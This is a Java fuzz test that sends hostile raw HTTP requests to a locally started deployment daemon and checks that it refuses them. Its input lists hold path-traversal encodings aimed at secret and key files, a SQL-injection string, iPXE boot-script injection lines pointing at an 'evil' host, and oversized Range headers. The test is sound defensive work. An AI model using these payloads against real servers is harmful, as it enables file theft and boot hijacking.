package org.confluentcollective.web;

import static org.confluentcollective.web.FuzzInputs.jsonString;
import static org.confluentcollective.web.FuzzInputs.junk;
import static org.confluentcollective.web.FuzzInputs.pick;
import static org.confluentcollective.web.FuzzInputs.request;
import static org.junit.jupiter.api.Assertions.assertEquals;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.confluentcollective.web.ApiClient.Answer;
import org.confluentcollective.web.FuzzRun.Expect;
import org.confluentcollective.web.FuzzRun.Shot;
import org.confluentcollective.web.RawHttp.Reply;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Fuzzes the unauthenticated deployment port of a real daemon over raw HTTP: {@code /self/*}
 * with bad, mutated and missing node names and keys and hostile bodies; {@code /boot/by-mac/}
 * with junk MAC addresses; {@code /confluent-public/os/} with dot segments, encoded slashes,
 * absolute paths and a symbolic link out of the deployment root, and odd, overlapping and huge
 * Range headers; and broken HTTP. Besides the contract ({@link FuzzRun}): a secret planted beside
 * the deployment root never shows, boot scripts never carry injected lines, ranges answer the
 * right bytes and no more than a bounded amount, and the database is unchanged (no request has
 * the node's valid key and a valid report at once). Afterwards the port still answers normally.
 */
class DeploymentPortFuzzTest {

    static final int REQUESTS = 2_000;
    static final String MAC = "52:54:00:77:00:10";
    static final int KERNEL_BYTES = 10_000;
    /** What one answer may carry: the kernel twice over plus multipart framing; more is amplification. */
    static final int LARGEST_ANSWER = 2 * KERNEL_BYTES + 64 * 1024;
    static final String JSON_TYPE = "Content-Type: application/json\r\n";
    static final Pattern REFUSAL_SCRIPT = Pattern.compile("#!ipxe\necho confluent: [ -~]*\nsleep 3\nexit 1\n");

    @TempDir
    Path dir;

    DaemonFixture fixture;
    int port;
    String secret;
    String apiKey;
    String kernel;
    String bootScript;

    @Test
    void hostileRequestsToTheDeploymentPort() throws Exception {
        Path root = dir.resolve("deploy");
        try (DaemonFixture started = DaemonFixture.start(DaemonConfig.builder(dir.resolve("state"), "m1")
                .deploy(DeploySettings.loopback(root)).build())) {
            fixture = started;
            port = fixture.daemon.deploymentHttpPort();
            prepare(root);
            Map<String, JsonNode> before = fixture.dump();

            FuzzRun run = new FuzzRun("DeploymentPortFuzzTest", 20_240_611L);
            run.run(REQUESTS, this::shot);
            run.assertNoFailures();

            assertEquals(before, fixture.dump(), "a refused request changed the database, seed " + run.seed);
            assertStillServes();
        }
    }

    /** A profile, n1 with its key handed out (and so disarmed), n2 armed but asking from the wrong address, secrets. */
    private void prepare(Path root) throws Exception {
        Path source = Files.createDirectories(dir.resolve("source"));
        StringBuilder pattern = new StringBuilder();
        for (int i = 0; i < KERNEL_BYTES; i++) {
            pattern.append((char) ('!' + i % 90));
        }
        kernel = pattern.toString();
        Files.writeString(source.resolve("vmlinuz"), kernel);
        Files.writeString(source.resolve("initrd.gz"), "initrd");
        Files.writeString(source.resolve("profile.yaml"),
                "name: tiny\nkernel: vmlinuz\ninitrd: initrd.gz\nkernelargs: \"console=ttyS0\"\n");
        Answer imported = fixture.socket.post("/deployment/profiles", "{\"source\":\"" + source + "\"}");
        assertEquals(200, imported.status(), imported.text());

        secret = "SECRET-" + UUID.randomUUID();
        Files.writeString(dir.resolve("secret.txt"), secret);
        Files.writeString(root.resolve("secret.txt"), secret);
        Files.createSymbolicLink(root.resolve("profiles/tiny/escape"), dir.resolve("secret.txt"));
        Files.createSymbolicLink(root.resolve("profiles/outside"), dir);

        assertEquals(201, fixture.socket.post("/nodes/", "{\"name\":\"n1\",\"net.hwaddr\":\"" + MAC + "\"}").status());
        assertEquals(201, fixture.socket.post("/nodes/", "{\"name\":\"n2\",\"net.ipv4_address\":\"10.9.9.9/24\"}")
                .status());
        for (String node : new String[] {"n1", "n2"}) {
            assertEquals(200, fixture.socket.put("/noderange/" + node + "/deployment", "{\"profile\":\"tiny\"}")
                    .status());
        }
        Reply key = send(request("POST", "/self/apikey", "CONFLUENT_NODENAME: n1\r\n", null));
        assertEquals(200, key.status(), key.toString());
        apiKey = key.body().strip();
        String base = "http://127.0.0.1:" + port + "/confluent-public/os/tiny/";
        bootScript = "#!ipxe\necho Deploying tiny\nkernel " + base + "vmlinuz initrd=initrd.gz console=ttyS0\n"
                + "initrd " + base + "initrd.gz\nboot\n";
        assertEquals(bootScript, send(request("GET", "/boot/by-mac/" + MAC + "/boot.ipxe", "", null)).body());
    }

    /** After the run: the script, the files and n1's key all still work. */
    private void assertStillServes() throws Exception {
        assertEquals(bootScript, send(request("GET", "/boot/by-mac/" + MAC + "/boot.ipxe", "", null)).body());
        Reply whole = send(request("GET", "/confluent-public/os/tiny/vmlinuz", "", null));
        assertEquals(200, whole.status());
        assertEquals(kernel, whole.body());
        Reply report = send(request("POST", "/self/updatestatus",
                "CONFLUENT_NODENAME: n1\r\nCONFLUENT_APIKEY: " + apiKey + "\r\n" + JSON_TYPE,
                "{\"status\":\"complete\",\"state\":\"after fuzzing\"}".getBytes(StandardCharsets.UTF_8)));
        assertEquals(200, report.status(), report.toString());
        JsonNode status = fixture.socket.get("/noderange/n1/deployment").json().path("databynode").path("n1");
        assertEquals("tiny", status.path("profile").asText(), status.toString());
        assertEquals("after fuzzing", status.path("state").asText(), status.toString());
    }

    private Shot shot(Random r) {
        return switch (r.nextInt(10)) {
            case 0 -> apiKeyRequest(r);
            case 1, 2 -> statusReport(r);
            case 3 -> bootScriptRequest(r);
            case 4, 5 -> escape(r);
            case 6, 7 -> range(r);
            case 8 -> shot("broken HTTP", Expect.BROKEN, FuzzInputs.brokenHttp(r, "/self/updatestatus"));
            default -> shot("junk path", Expect.ANSWERED, request(pick(r, "GET", "HEAD", "POST", "PUT", "DELETE",
                    "OPTIONS", "TRACE"), pick(r, "/", "/self/", "/boot/", "/confluent-public/", "/confluent-public/os/")
                    + FuzzInputs.pathJunk(r), r.nextBoolean() ? JSON_TYPE : "", r.nextBoolean() ? null
                    : FuzzInputs.malformedJson(r)));
        };
    }

    /** No node can get a key: n1's is used up, n2 asks from the wrong address, the rest are no armed nodes. */
    private Shot apiKeyRequest(Random r) {
        String method = r.nextInt(5) == 0 ? pick(r, "GET", "PUT", "DELETE") : "POST";
        String path = r.nextInt(5) == 0 ? "/self/apikey" + pick(r, "/", "/..", ";x", "%00", "/%2e%2e/apikey", "?x=1")
                : "/self/apikey";
        String headers = nodeHeaders(r) + (r.nextBoolean() ? "CONFLUENT_APIKEY: " + apiKey + "\r\n" : "");
        return shot("key", Expect.REFUSED, request(method, path, headers, r.nextBoolean() ? null
                : FuzzInputs.malformedJson(r)));
    }

    /** Reports that are refused: the key is wrong, or when it may be n1's own, the report is. */
    private Shot statusReport(Random r) {
        String[] key = keyHeader(r);
        boolean maybeValidKey = key[1] != null;
        byte[] body = maybeValidKey || r.nextBoolean() ? badReport(r) : goodReport(r);
        String type = r.nextInt(8) == 0 ? pick(r, "", "Content-Type: text/plain\r\n", "Content-Type: application/xml\r\n",
                "Content-Type: application/x-www-form-urlencoded\r\n") : JSON_TYPE;
        String method = r.nextInt(10) == 0 ? pick(r, "GET", "PUT", "PATCH") : "POST";
        return shot("report", Expect.REFUSED, request(method, "/self/updatestatus",
                nodeHeaders(r) + key[0] + type, body));
    }

    /** The key header, and whether it may be n1's valid key (HTTP trims blanks, a repeated header may count once). */
    private String[] keyHeader(Random r) {
        String mutated = apiKey.substring(0, 10) + (char) (apiKey.charAt(10) == 'A' ? 'B' : 'A') + apiKey.substring(11);
        return switch (r.nextInt(12)) {
            case 0 -> new String[] {"", null};
            case 1 -> new String[] {"CONFLUENT_APIKEY: \r\n", null};
            case 2 -> new String[] {"CONFLUENT_APIKEY: " + pick(r, "guess", "null", "*", "%", "' OR '1'='1", "$6$x$y")
                    + "\r\n", null};
            case 3 -> new String[] {"CONFLUENT_APIKEY: " + mutated + "\r\n", null};
            case 4 -> new String[] {"CONFLUENT_APIKEY: " + apiKey.substring(0, r.nextInt(apiKey.length())) + "\r\n", null};
            case 5 -> new String[] {"CONFLUENT_APIKEY: " + apiKey + pick(r, "A", "=", "\u0000", "\u00e9", ",x") + "\r\n",
                null};
            case 6 -> new String[] {"CONFLUENT_APIKEY: " + apiKey.toUpperCase() + "\r\n", null};
            case 7 -> new String[] {"CONFLUENT_APIKEY: " + "k".repeat(200 + r.nextInt(7_000)) + "\r\n", null};
            case 8 -> new String[] {"CONFLUENT_APIKEY: " + junk(r, 60).replaceAll("[\r\n]", "") + "\r\n", null};
            case 9 -> new String[] {"CONFLUENT_APIKEY: " + pick(r, "", " ", "\t") + apiKey + pick(r, "", " ", "\t")
                    + "\r\n", "may be valid"};
            case 10 -> new String[] {"CONFLUENT_APIKEY: " + apiKey + "\r\nCONFLUENT_APIKEY: " + mutated + "\r\n",
                "may be valid"};
            default -> new String[] {"CONFLUENT_APIKEY: " + apiKey + "\r\n", "valid"};
        };
    }

    private static String nodeHeaders(Random r) {
        return switch (r.nextInt(8)) {
            case 0 -> "";
            case 1 -> "CONFLUENT_NODENAME: " + pick(r, "n1", "n2", "n3", "N1", " n1 ", "n1,n2", "n[1-2]", "everything",
                    "../n1", "n1/../n2", "/", ".", "..", "", "n1\u0000", "n1\u007f", "n1\u00ff", "~.*", "n1@x")
                    + "\r\n";
            case 2 -> "CONFLUENT_NODENAME: " + "n".repeat(1 + r.nextInt(7_000)) + "\r\n";
            case 3 -> "CONFLUENT_NODENAME: " + junk(r, 60).replaceAll("[\r\n]", "") + "\r\n";
            case 4 -> "CONFLUENT_NODENAME: n1\r\nCONFLUENT_NODENAME: n2\r\n";
            case 5 -> pick(r, "confluent_nodename", "Confluent-Nodename", "CONFLUENT_NODENAME ") + ": n1\r\n";
            default -> "CONFLUENT_NODENAME: n1\r\n";
        };
    }

    /** A report no node may make: not JSON, not an object, a status other than staged, complete or booted, bad text. */
    private static byte[] badReport(Random r) {
        String report = switch (r.nextInt(8)) {
            case 0 -> new String(FuzzInputs.malformedJson(r), StandardCharsets.UTF_8);
            case 1 -> pick(r, "[]", "null", "7", "\"complete\"", "[{\"status\":\"complete\"}]");
            case 2 -> "{\"status\":" + pick(r, "\"done\"", "\"COMPLETE\"", "\"complete \"", "7", "true", "[]", "{}",
                    "\"\\ud800\"", "\"staged\\u0000\"", jsonString(junk(r, 30) + "x")) + "}";
            case 3 -> "{\"status\":\"complete\",\"state\":" + pick(r, "\"a\\nb\"", "\"\\u0001\"", "7", "[]", "{}",
                    "\"\\udc00\"", jsonString("s".repeat(1_025 + r.nextInt(10_000)))) + "}";
            case 4 -> "{\"status\":\"staged\",\"state_detail\":" + pick(r, "\"\\r\"", "1e999999", "false",
                    jsonString("d".repeat(1_025 + r.nextInt(10_000)))) + "}";
            case 5 -> "{\"status\":\"complete\",\"status\":\"staged\"}";
            case 6 -> "{\"status\":\"staged\",\"state\":" + jsonString("x".repeat(17_000 + r.nextInt(40_000))) + "}";
            default -> "{\"status\":\"complete\"," + FuzzInputs.nested(1_001 + r.nextInt(3_000), "") + "}";
        };
        return report.getBytes(StandardCharsets.UTF_8);
    }

    /** A report n1 could make with its key; sent only with wrong keys. */
    private static byte[] goodReport(Random r) {
        byte[] report = ("{\"status\":\"" + pick(r, "staged", "complete") + "\",\"state\":\"fuzzing\"}")
                .getBytes(StandardCharsets.UTF_8);
        return r.nextBoolean() ? report : FuzzInputs.mutate(r, report);
    }

    private Shot bootScriptRequest(Random r) {
        String mac = switch (r.nextInt(6)) {
            case 0 -> pick(r, MAC, MAC.replace(':', '-'), MAC.toUpperCase(), MAC.replace(":", ""), "52:54:00:77:00:1",
                    "52:54:00:77:00:100", "ff:ff:ff:ff:ff:ff", "00:00:00:00:00:00", "52%3A54%3A00%3A77%3A00%3A10");
            case 1 -> FuzzInputs.percentEncoded(junk(r, 40));
            case 2 -> FuzzInputs.pathJunk(r);
            case 3 -> "%0a" + pick(r, "kernel%20http://evil/x", "chain%20http://evil/", "%23!ipxe") + "%0a";
            case 4 -> "5".repeat(1 + r.nextInt(8_000));
            default -> MAC.substring(0, r.nextInt(MAC.length())) + pick(r, "%00", "%2f", "/..", "%0d", "\\", "%ff");
        };
        String method = r.nextInt(8) == 0 ? pick(r, "POST", "PUT", "DELETE") : r.nextInt(5) == 0 ? "HEAD" : "GET";
        String suffix = r.nextInt(6) == 0 ? pick(r, "/", "%00", "/../boot.ipxe", ";x=1", "?mac=" + MAC) : "";
        return shot("script", method.equals("GET") || method.equals("HEAD") ? Expect.ANSWERED : Expect.REFUSED,
                request(method, "/boot/by-mac/" + mac + "/boot.ipxe" + suffix, "", null));
    }

    /** A way out of the profiles directory: dot segments spelt every way, encoded separators, absolute paths, links. */
    private Shot escape(Random r) {
        String target;
        if (r.nextInt(4) == 0) {
            target = pick(r, "/confluent-public/os/tiny/escape", "/confluent-public/os/outside/secret.txt",
                    "/confluent-public/os/outside/deploy/secret.txt", "/confluent-public/os/outside/state/member.key",
                    "/confluent-public/os/" + dir.resolve("secret.txt"),
                    "/confluent-public/os/" + FuzzInputs.percentEncoded(dir.resolve("secret.txt").toString()),
                    "/confluent-public/os//" + dir.resolve("secret.txt"), "/" + dir.resolve("secret.txt"),
                    "/confluent-public/os/file:" + dir.resolve("secret.txt"), "http://127.0.0.1" + dir.resolve("secret.txt"),
                    "/confluent-public/os/tiny/escape%00", "/confluent-public/os/tiny/escape/", "/confluent-public/os/tiny/ESCAPE",
                    "/confluent-public/os/%74iny/escape", "/confluent-public/os/tiny/./escape", "/confluent-public/os/tiny//escape");
        } else {
            StringBuilder path = new StringBuilder(pick(r, "/confluent-public/os/", "/confluent-public/os/tiny/",
                    "/confluent-public/", "/boot/by-mac/" + MAC + "/", "/self/", "/", "http://127.0.0.1/confluent-public/os/",
                    "/confluent-public/os/tiny/vmlinuz/", "/confluent-public/os;x=1/", ""));
            int ups = 1 + r.nextInt(6);
            for (int i = 0; i < ups; i++) {
                path.append(pick(r, "..", "%2e%2e", "%2E%2e", ".%2e", "%2e.", "..;", "..;x=1", "%252e%252e",
                        "%c0%ae%c0%ae", "....", "..%00", "..%20", ".")).append(pick(r, "/", "/", "/", "%2f", "%2F", "%5c",
                        "\\", "//", "/./", ";/", "%252f"));
            }
            path.append(pick(r, "secret.txt", "deploy/secret.txt", "state/member.key", "state/member.crt"));
            target = path.toString();
        }
        String method = r.nextInt(4) == 0 ? "HEAD" : "GET";
        return shot("escape", Expect.REFUSED, request(method, target, "", null));
    }

    /** Ranges of the kernel: valid, unsatisfiable, malformed, overflowing, many and overlapping. */
    private Shot range(Random r) {
        int a = r.nextInt(KERNEL_BYTES + 100);
        int b = r.nextInt(KERNEL_BYTES + 100);
        String spec = switch (r.nextInt(12)) {
            case 0 -> "bytes=" + Math.min(a, b) + "-" + Math.max(a, b);
            case 1 -> "bytes=" + a + "-";
            case 2 -> "bytes=-" + a;
            case 3 -> "bytes=" + Math.max(a, b) + "-" + Math.min(a, b);
            case 4 -> "bytes=" + pick(r, "", "-", "--1", "-0", "a-b", "0-1;x", "0-1,", ",", ",,,,", "0 - 1", "1-0",
                    "0x10-0x20", "1e3-2e3", "+1-2", "0-1 , 3-4");
            case 5 -> pick(r, "items=0-1", "bytes 0-1", "Bytes=0-1", "bytes=0-1\u0000", "bytes=\u00ff", "bytes:0-1");
            case 6 -> "bytes=" + pick(r, "99999999999999999999-", "0-99999999999999999999", "-99999999999999999999",
                    "9223372036854775807-", "9223372036854775806-9223372036854775807", "-9223372036854775808",
                    "0-9223372036854775807", "18446744073709551616-");
            case 7 -> "bytes=" + repeated("0-" + (KERNEL_BYTES - 1), 2 + r.nextInt(1_000));
            case 8 -> "bytes=" + repeated("-" + KERNEL_BYTES, 2 + r.nextInt(1_000));
            case 9 -> "bytes=" + many(r, 2 + r.nextInt(1_500));
            case 10 -> "bytes=0-0,-1," + a + "-" + (a + 5) + "," + b + "-";
            default -> "bytes=" + "0".repeat(1 + r.nextInt(8_000)) + "-1";
        };
        String headers = "Range: " + spec + "\r\n" + (r.nextInt(4) == 0 ? pick(r, "If-Range: junk\r\n",
                "If-Range: \"x\"\r\n", "If-Range: Thu, 01 Jan 1970 00:00:00 GMT\r\n", "Range: bytes=0-1\r\n") : "");
        String file = r.nextInt(6) == 0 ? pick(r, "initrd.gz", "profile.yaml", "nosuch", "") : "vmlinuz";
        String method = r.nextInt(6) == 0 ? pick(r, "HEAD", "OPTIONS") : "GET";
        return shot("range", Expect.ANSWERED, request(method, "/confluent-public/os/tiny/" + file, headers, null));
    }

    private static String repeated(String range, int times) {
        return (range + ",").repeat(times - 1) + range;
    }

    /** Many small ranges, overlapping at random. */
    private static String many(Random r, int count) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < count; i++) {
            int from = r.nextInt(KERNEL_BYTES);
            out.append(i == 0 ? "" : ",").append(from).append('-').append(from + r.nextInt(50));
        }
        return out.toString();
    }

    private Shot shot(String what, Expect expect, byte[] request) {
        return new Shot(FuzzInputs.describe(request) + " (" + what + ", " + request.length + " bytes)", expect,
                () -> send(request), this::problem);
    }

    private Reply send(byte[] request) throws Exception {
        boolean head = request[0] == 'H' && request[1] == 'E';
        try (RawHttp connection = RawHttp.plain(port, Duration.ofSeconds(15))) {
            try {
                connection.send(request);
            } catch (java.io.IOException e) {
                // Refused before the whole request was read, and closed: the answer is there.
            }
            if (head) {
                String answer = connection.head();
                return new Reply(Integer.parseInt(answer.substring(9, 12)), answer, "");
            }
            return connection.read();
        }
    }

    /** What no answer may show: the secret, the member's key, an injected script line, wrong or too many bytes. */
    private String problem(Reply reply) {
        String text = reply.head() + reply.body();
        if (text.contains(secret) || text.contains("PRIVATE KEY")) {
            return "escaped the deployment root";
        }
        if (reply.body().length() > LARGEST_ANSWER) {
            return "answered " + reply.body().length() + " characters";
        }
        if (reply.status() == 200 && reply.body().startsWith("#!ipxe")
                && !reply.body().equals(bootScript) && !REFUSAL_SCRIPT.matcher(reply.body()).matches()) {
            return "a boot script of another shape";
        }
        if (reply.status() == 206 && !reply.body().isEmpty()) { // HEAD answers have no bytes to check
            return wrongRange(reply);
        }
        return null;
    }

    /** A single range must be that slice of the kernel; each part of a multipart answer too. */
    private String wrongRange(Reply reply) {
        Matcher single = Pattern.compile("(?i)\ncontent-range: bytes (\\d+)-(\\d+)/(\\d+)").matcher(reply.head());
        if (single.find()) {
            return slice(reply.body(), single) ? null : "single range with other bytes";
        }
        Matcher part = Pattern.compile("(?i)content-range: bytes (\\d+)-(\\d+)/(\\d+)\r\n\r\n").matcher(reply.body());
        int parts = 0;
        while (part.find()) {
            parts++;
            if (!slice(reply.body().substring(part.end()), part)) {
                return "part " + parts + " with other bytes";
            }
        }
        return parts > 0 || reply.body().isEmpty() ? null : "206 without ranges";
    }

    /** Whether {@code text} starts with the kernel's bytes the Content-Range {@code range} names. */
    private boolean slice(String text, Matcher range) {
        long from = Long.parseLong(range.group(1));
        long to = Long.parseLong(range.group(2));
        long length = Long.parseLong(range.group(3));
        if (length != KERNEL_BYTES) {
            return true; // another file of the profile
        }
        return from <= to && to < KERNEL_BYTES && text.startsWith(kernel.substring((int) from, (int) to + 1));
    }
}
